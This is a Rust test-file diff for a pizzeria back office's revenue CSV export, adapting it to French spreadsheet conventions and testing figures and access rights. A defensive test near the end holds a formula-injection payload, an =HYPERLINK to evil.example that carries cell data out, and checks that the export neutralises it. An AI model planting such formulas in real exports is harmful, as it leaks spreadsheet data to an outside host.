@@ -8,6 +8,7 @@ use ocpizza::stock::{self, Needs};
 use ocpizza::testing::{self, json_of, request, scalar, token_for};
 use serde_json::{json, Value};
 use sqlx::MySqlPool;
+use std::collections::BTreeMap;
 
 const SECRET: &str = "backoffice-test-secret";
 /// Basilic frais: on the Margherita (product 1), 3 g each.
@@ -884,34 +885,47 @@ async fn revenue_exports_as_csv(pool: MySqlPool) {
         headers[http::header::CONTENT_TYPE],
         "text/csv; charset=utf-8"
     );
-    let disposition = headers[http::header::CONTENT_DISPOSITION].to_str().unwrap();
-    assert!(disposition.starts_with("attachment;"), "{disposition}");
-    assert!(disposition.contains("revenue-group-2026-03-28-2026-03-30.csv"));
-    let text = String::from_utf8(response.body().to_vec()).unwrap();
-    let lines: Vec<&str> = text.split("\r\n").filter(|l| !l.is_empty()).collect();
+    assert_eq!(
+        headers[http::header::CONTENT_DISPOSITION],
+        "attachment; filename=\"chiffre-affaires_toutes-pizzerias_2026-03-28_2026-03-30.csv\""
+    );
+    let body = response.body().to_vec();
+    assert!(
+        body.starts_with(b"\xEF\xBB\xBF"),
+        "a UTF-8 byte order mark first"
+    );
+    let text = String::from_utf8(body).unwrap();
+    let lines: Vec<&str> = text['\u{feff}'.len_utf8()..]
+        .split("\r\n")
+        .filter(|l| !l.is_empty())
+        .collect();
     assert_eq!(
         lines[0],
-        "date,pizzeria_id,pizzeria,orders,revenue_incl_vat_eur,revenue_excl_vat_eur,vat_eur,average_basket_eur,\
-         card_orders,card_revenue_eur,cash_orders,cash_revenue_eur,web_orders,web_revenue_eur,\
-         phone_orders,phone_revenue_eur,counter_orders,counter_revenue_eur"
+        "Date;N° pizzeria;Pizzeria;Commandes;CA HT (€);TVA (€);CA TTC (€);Panier moyen TTC (€);\
+         Carte bancaire : commandes;Carte bancaire : CA TTC (€);Espèces : commandes;Espèces : CA TTC (€);\
+         En ligne : commandes;En ligne : CA TTC (€);Téléphone : commandes;Téléphone : CA TTC (€);\
+         Comptoir : commandes;Comptoir : CA TTC (€)"
     );
-    // 8 pizzerias x 3 days, 8 pizzeria totals, the group's total.
+    // 8 pizzerias x 3 days, 8 pizzeria totals, all pizzerias' total.
     assert_eq!(lines.len(), 1 + 8 * 3 + 8 + 1);
     assert!(lines.contains(
-        &"2026-03-28,1,OC Pizza Lyon Presqu'île,2,43.00,39.09,3.91,21.50,1,25.00,1,18.00,1,25.00,1,18.00,0,0.00"
+        &"2026-03-28;1;OC Pizza Lyon Presqu'île;2;39,09;3,91;43,00;21,50;1;25,00;1;18,00;1;25,00;1;18,00;0;0,00"
     ), "{text}");
     assert!(lines.contains(
-        &"2026-03-30,2,OC Pizza Villeurbanne Gratte-Ciel,1,20.00,18.18,1.82,20.00,1,20.00,0,0.00,1,20.00,0,0.00,0,0.00"
+        &"2026-03-30;2;OC Pizza Villeurbanne Gratte-Ciel;1;18,18;1,82;20,00;20,00;1;20,00;0;0,00;1;20,00;0;0,00;0;0,00"
+    ), "{text}");
+    assert!(lines.contains(
+        &"Total;1;OC Pizza Lyon Presqu'île;3;48,18;4,82;53,00;17,67;1;25,00;2;28,00;1;25,00;1;18,00;1;10,00"
     ), "{text}");
     assert_eq!(
         *lines.last().unwrap(),
-        "total,,group,6,120.00,109.09,10.91,20.00,3,77.00,3,43.00,4,92.00,1,18.00,1,10.00"
+        "Total;;Toutes les pizzerias;6;109,09;10,91;120,00;20,00;3;77,00;3;43,00;4;92,00;1;18,00;1;10,00"
     );
 }
 
-/// The cells of a CSV text (RFC 4180: quoted cells may hold commas, quotes
-/// and line ends).
-fn csv_rows(text: &str) -> Vec<Vec<String>> {
+/// The cells of a CSV text (RFC 4180 with `separator` between cells: quoted
+/// cells may hold separators, quotes and line ends).
+fn csv_rows(text: &str, separator: char) -> Vec<Vec<String>> {
     let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
     let mut chars = text.chars().peekable();
     let mut quoted = false;
@@ -924,7 +938,7 @@ fn csv_rows(text: &str) -> Vec<Vec<String>> {
             (true, '"') => quoted = false,
             (true, c) => cell.push(c),
             (false, '"') if cell.is_empty() => quoted = true,
-            (false, ',') => row.push(std::mem::take(&mut cell)),
+            (false, c) if c == separator => row.push(std::mem::take(&mut cell)),
             (false, '\r') if chars.peek() == Some(&'\n') => {
                 chars.next();
                 row.push(std::mem::take(&mut cell));
@@ -938,6 +952,306 @@ fn csv_rows(text: &str) -> Vec<Vec<String>> {
         "unterminated CSV: {text:?}"
     );
     rows
+}
+
+/// The rows of an export as a French spreadsheet opens it: UTF-8 once its
+/// byte order mark is taken off, `;` between cells.
+fn spreadsheet_rows(body: &[u8]) -> Vec<Vec<String>> {
+    let text = std::str::from_utf8(body).expect("UTF-8");
+    let text = text
+        .strip_prefix('\u{feff}')
+        .expect("a byte order mark, which tells a spreadsheet it is UTF-8");
+    csv_rows(text, ';')
+}
+
+/// A number as a French spreadsheet reads it, in cents: `1234,56` (decimal
+/// comma, two decimals) for euros, a whole number for counts. Anything else
+/// (`1234.56`, `1 234,56`) it would take for text: the test fails.
+fn spreadsheet_number(cell: &str, euros: bool) -> i64 {
+    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
+    let unsigned = cell.strip_prefix('-').unwrap_or(cell);
+    let value = if euros {
+        match unsigned.split_once(',') {
+            Some((units, cents)) if digits(units) && digits(cents) && cents.len() == 2 => {
+                units.parse::<i64>().unwrap() * 100 + cents.parse::<i64>().unwrap()
+            }
+            _ => panic!("not an amount a French spreadsheet reads: {cell:?}"),
+        }
+    } else {
+        assert!(digits(unsigned), "not a count: {cell:?}");
+        unsigned.parse().unwrap()
+    };
+    if cell.starts_with('-') {
+        -value
+    } else {
+        value
+    }
+}
+
+/// The export's figure columns, by header, with where the JSON report keeps
+/// the same figure (under a day, a pizzeria or the totals).
+const FIGURE_COLUMNS: [(&str, &str); 15] = [
+    ("Commandes", "/orders"),
+    ("CA HT (€)", "/revenue_excl_vat_cents"),
+    ("TVA (€)", "/vat_cents"),
+    ("CA TTC (€)", "/revenue_incl_vat_cents"),
+    ("Panier moyen TTC (€)", "/average_basket_cents"),
+    (
+        "Carte bancaire : commandes",
+        "/by_payment_method/card/orders",
+    ),
+    (
+        "Carte bancaire : CA TTC (€)",
+        "/by_payment_method/card/revenue_cents",
+    ),
+    ("Espèces : commandes", "/by_payment_method/cash/orders"),
+    (
+        "Espèces : CA TTC (€)",
+        "/by_payment_method/cash/revenue_cents",
+    ),
+    ("En ligne : commandes", "/by_channel/web/orders"),
+    ("En ligne : CA TTC (€)", "/by_channel/web/revenue_cents"),
+    ("Téléphone : commandes", "/by_channel/phone/orders"),
+    ("Téléphone : CA TTC (€)", "/by_channel/phone/revenue_cents"),
+    ("Comptoir : commandes", "/by_channel/counter/orders"),
+    ("Comptoir : CA TTC (€)", "/by_channel/counter/revenue_cents"),
+];
+
+/// One row's figures, read as a spreadsheet does, by JSON path.
+fn figures_of(header: &[String], row: &[String]) -> BTreeMap<&'static str, i64> {
+    assert_eq!(row.len(), header.len(), "{row:?}");
+    FIGURE_COLUMNS
+        .iter()
+        .map(|(name, path)| {
+            let at = header
+                .iter()
+                .position(|h| h == name)
+                .unwrap_or_else(|| panic!("no column {name:?} in {header:?}"));
+            (*path, spreadsheet_number(&row[at], name.ends_with("(€)")))
+        })
+        .collect()
+}
+
+/// The same figures from the JSON report.
+fn figures_in(json: &Value) -> BTreeMap<&'static str, i64> {
+    FIGURE_COLUMNS
+        .iter()
+        .map(|(_, path)| {
+            let value = json.pointer(path).and_then(Value::as_i64);
+            (*path, value.unwrap_or_else(|| panic!("{path} in {json}")))
+        })
+        .collect()
+}
+
+/// Sums of rows, as a spreadsheet's SUM over a column (the average basket
+/// does not add up: left out).
+fn summed<'a>(
+    rows: impl Iterator<Item = &'a BTreeMap<&'static str, i64>>,
+) -> BTreeMap<&'static str, i64> {
+    let mut sums = BTreeMap::new();
+    for row in rows {
+        for (path, value) in row {
+            *sums.entry(*path).or_insert(0) += value;
+        }
+    }
+    sums.remove("/average_basket_cents");
+    sums
+}
+
+fn without_average(mut figures: BTreeMap<&'static str, i64>) -> BTreeMap<&'static str, i64> {
+    figures.remove("/average_basket_cents");
+    figures
+}
+
+/// Reads an export as a French spreadsheet would and checks it against the
+/// JSON report of the same query: each pizzeria's days sum to its `Total`
+/// row and to the JSON's figures for it, each day's rows sum to the JSON's
+/// day, HT + TVA = TTC on every row, and for all pizzerias the days of every
+/// pizzeria sum to the last row, the JSON's totals. Answers the pizzerias
+/// that have rows.
+fn check_export(body: &[u8], report: &Value) -> Vec<i64> {
+    let rows = spreadsheet_rows(body);
+    let header = &rows[0];
+    assert_eq!(&header[..3], ["Date", "N° pizzeria", "Pizzeria"]);
+    let mut days: Vec<(String, i64, BTreeMap<&'static str, i64>)> = Vec::new();
+    let mut totals: BTreeMap<i64, BTreeMap<&'static str, i64>> = BTreeMap::new();
+    let mut all = None;
+    for row in &rows[1..] {
+        let figures = figures_of(header, row);
+        assert_eq!(
+            figures["/revenue_excl_vat_cents"] + figures["/vat_cents"],
+            figures["/revenue_incl_vat_cents"],
+            "HT + TVA = TTC: {row:?}"
+        );
+        match (row[0].as_str(), row[1].as_str()) {
+            ("Total", "") => {
+                assert_eq!(row[2], "Toutes les pizzerias");
+                assert!(all.replace(figures).is_none(), "one total of all pizzerias");
+            }
+            ("Total", id) => {
+                totals.insert(id.parse().unwrap(), figures);
+            }
+            (date, id) => {
+                assert!(
+                    chrono::NaiveDate::parse_from_str(date, "%Y-%m-%d").is_ok(),
+                    "{row:?}"
+                );
+                days.push((date.to_owned(), id.parse().unwrap(), figures));
+            }
+        }
+    }
+    let pizzerias = report["pizzerias"].as_array().unwrap();
+    assert_eq!(totals.len(), pizzerias.len());
+    for p in pizzerias {
+        let id = p["pizzeria_id"].as_i64().unwrap();
+        let own = days.iter().filter(|(_, of, _)| *of == id).map(|(.., f)| f);
+        assert_eq!(
+            summed(own),
+            without_average(totals[&id].clone()),
+            "pizzeria {id}"
+        );
+        assert_eq!(totals[&id], figures_in(p), "pizzeria {id}");
+    }
+    for day in report["days"].as_array().unwrap() {
+        let date = day["date"].as_str().unwrap();
+        let rows = days.iter().filter(|(d, ..)| d == date).map(|(.., f)| f);
+        assert_eq!(summed(rows), without_average(figures_in(day)), "{date}");
+    }
+    let everything = summed(days.iter().map(|(.., f)| f));
+    assert_eq!(everything, without_average(figures_in(&report["totals"])));
+    match report["pizzeria_id"].as_i64() {
+        None => assert_eq!(
+            all.expect("a total of all pizzerias"),
+            figures_in(&report["totals"])
+        ),
+        Some(id) => {
+            assert!(all.is_none(), "one pizzeria: its own total is the last row");
+            assert_eq!(totals[&id], figures_in(&report["totals"]));
+        }
+    }
+    totals.into_keys().collect()
+}
+
+async fn export(
+    state: &backoffice::State,
+    query: &str,
+    bearer: &str,
+) -> (StatusCode, String, Vec<u8>) {
+    let response = backoffice::handle(
+        state,
+        request(
+            "GET",
+            &format!("/reports/revenue?{query}&format=csv"),
+            None,
+            Some(bearer),
+        ),
+    )
+    .await;
+    let disposition = response
+        .headers()
+        .get(http::header::CONTENT_DISPOSITION)
+        .map(|v| v.to_str().unwrap().to_owned())
+        .unwrap_or_default();
+    (response.status(), disposition, response.body().to_vec())
+}
+
+/// The export read as a French spreadsheet reads it gives the JSON report's
+/// figures, for all pizzerias (the admin, `pizzeria_id=all` or none) and for
+/// one; a manager gets their own pizzeria's and nothing else.
+#[sqlx::test(migrations = "../../migrations")]
+async fn a_french_spreadsheet_reads_the_export_as_the_json_report(pool: MySqlPool) {
+    let state = setup(&pool).await;
+    known_orders(&pool).await;
+    let admin = token(&pool, "admin@ocpizza.test").await;
+    let manager = token(&pool, "manager.1@ocpizza.test").await;
+    let period = "from=2026-03-28&to=2026-03-30";
+
+    for scope in ["pizzeria_id=all&", ""] {
+        let (status, report) = call(
+            &state,
+            "GET",
+            &format!("/reports/revenue?{scope}{period}"),
+            None,
+            Some(&admin),
+        )
+        .await;
+        assert_eq!(status, StatusCode::OK, "{report}");
+        assert!(report["pizzeria_id"].is_null());
+        assert_eq!(report["totals"]["revenue_incl_vat_cents"], 12000);
+        let (status, disposition, body) = export(&state, &format!("{scope}{period}"), &admin).await;
+        assert_eq!(status, StatusCode::OK);
+        assert_eq!(
+            disposition,
+            "attachment; filename=\"chiffre-affaires_toutes-pizzerias_2026-03-28_2026-03-30.csv\""
+        );
+        // Every pizzeria of the group has its rows, sales or not.
+        let pizzerias = check_export(&body, &report);
+        assert_eq!(pizzerias, (1..=8).collect::<Vec<i64>>());
+    }
+
+    // The admin's and the manager's export of one pizzeria.
+    for bearer in [&admin, &manager] {
+        let (status, report) = call(
+            &state,
+            "GET",
+            &format!("/reports/revenue?pizzeria_id=1&{period}"),
+            None,
+            Some(bearer),
+        )
+        .await;
+        assert_eq!(status, StatusCode::OK, "{report}");
+        let (status, disposition, body) =
+            export(&state, &format!("pizzeria_id=1&{period}"), bearer).await;
+        assert_eq!(status, StatusCode::OK);
+        assert_eq!(
+            disposition,
+            "attachment; filename=\"chiffre-affaires_pizzeria-1-oc-pizza-lyon-presqu-ile_2026-03-28_2026-03-30.csv\""
+        );
+        assert_eq!(check_export(&body, &report), [1]);
+    }
+
+    // A manager asks for all pizzerias, or another one: refused, JSON or CSV.
+    for scope in ["pizzeria_id=all&", "", "pizzeria_id=2&"] {
+        let (status, body) = call(
+            &state,
+            "GET",
+            &format!("/reports/revenue?{scope}{period}"),
+            None,
+            Some(&manager),
+        )
+        .await;
+        assert_eq!(status, StatusCode::FORBIDDEN, "{scope}: {body}");
+        let (status, disposition, body) =
+            export(&state, &format!("{scope}{period}"), &manager).await;
+        assert_eq!(status, StatusCode::FORBIDDEN, "{scope}");
+        assert!(disposition.is_empty(), "{scope}: no file");
+        let problem: Value = serde_json::from_slice(&body).unwrap();
+        assert_eq!(problem["type"], "/problems/forbidden");
+        if !scope.contains('2') {
+            assert!(
+                problem["detail"]
+                    .as_str()
+                    .unwrap()
+                    .contains("pizzeria_id=1"),
+                "{problem}"
+            );
+        }
+    }
+    // Other staff, and nobody, neither.
+    let cashier = token(&pool, "cashier.1@ocpizza.test").await;
+    let (status, ..) = export(&state, &format!("pizzeria_id=all&{period}"), &cashier).await;
+    assert_eq!(status, StatusCode::FORBIDDEN);
+    let response = backoffice::handle(
+        &state,
+        request(
+            "GET",
+            &format!("/reports/revenue?pizzeria_id=all&{period}&format=csv"),
+            None,
+            None,
+        ),
+    )
+    .await;
+    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
 }
 
 /// A pizzeria name made to be run by a spreadsheet comes out as text in the
@@ -985,10 +1299,10 @@ async fn revenue_csv_neutralises_formulas_in_names(pool: MySqlPool) {
     .await;
     assert_eq!(response.status(), StatusCode::OK);
     let text = String::from_utf8(response.body().to_vec()).unwrap();
-    // The cell as written: quoted (it holds commas and quotes), then the `'`.
+    // The cell as written: quoted (it holds quotes), then the `'`.
     assert!(
         text.contains(
-            "2026-03-28,1,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Détails\"\")\",2,43.00,"
+            "\r\n2026-03-28;1;\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Détails\"\")\";2;39,09;"
         ),
         "{text}"
     );
@@ -996,7 +1310,7 @@ async fn revenue_csv_neutralises_formulas_in_names(pool: MySqlPool) {
         !text.contains("Margherita"),
         "a product name reached the export: {text}"
     );
-    let rows = csv_rows(&text);
+    let rows = spreadsheet_rows(text.as_bytes());
     assert_eq!(rows.len(), 1 + 8 * 3 + 8 + 1);
     let width = rows[0].len();
     let mut seen = std::collections::BTreeMap::new();
